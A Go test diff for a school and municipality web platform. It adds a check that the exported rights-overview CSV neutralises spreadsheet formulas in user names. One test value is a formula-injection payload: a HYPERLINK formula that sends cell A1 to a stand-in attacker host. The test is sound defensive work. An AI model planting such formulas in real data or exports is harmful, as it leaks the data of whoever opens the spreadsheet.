@@ -2,6 +2,8 @@ package web_test
 
 import (
 	"context"
+	"encoding/csv"
+	"fmt"
 	"net/http"
 	"net/url"
 	"regexp"
@@ -377,5 +379,40 @@ func TestRoleNeedsTheRightOrganisation(t *testing.T) {
 	}
 	if u, _ := p.db.FindUserByID(ctx, p.school.ID); len(u.Memberships) != 1 {
 		t.Errorf("refused roles were added: %d roles", len(u.Memberships))
+	}
+}
+
+// A name that a spreadsheet would run as a formula reaches the CSV as text.
+func TestRightsReviewCSVNeutralisesFormulas(t *testing.T) {
+	p := newPlatform(t, true)
+	ctx := context.Background()
+	hash, _ := auth.NewHasher(1).Hash(ctx, testPassword)
+	schools, _ := p.db.ListOrganisations(ctx, vios.OrganisationFilter{MunicipalityID: p.arnhemID, Kind: vios.OrgSchool})
+	for _, name := range []string{`=HYPERLINK("https://kwaad.example/?"&A1,"Klik")`, "+31 6 1234", "-2+3", "@SUM(A1)"} {
+		u := &vios.User{Email: fmt.Sprintf("formule%d@school.example", len(name)), Name: name,
+			Memberships: []vios.Membership{{MunicipalityID: p.arnhemID, OrganisationID: schools[0].ID, Role: vios.RoleSchool}}}
+		if err := p.db.CreateUser(ctx, u, hash); err != nil {
+			t.Fatal(err)
+		}
+	}
+	fg := p.login(t, "fg@arnhem.demo.example", testPassword).cookie.Value
+	body := p.do(t, "GET", "/beheer/arnhem/rechtenoverzicht.csv", fg, nil).body
+	records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	seen := 0
+	for _, rec := range records {
+		for _, cell := range rec {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("cell %q starts a formula", cell)
+			}
+			if strings.HasPrefix(cell, "'") {
+				seen++
+			}
+		}
+	}
+	if seen != 4 || !strings.Contains(body, `'=HYPERLINK(`) {
+		t.Errorf("%d neutralised cells, want 4:\n%s", seen, body)
 	}
 }
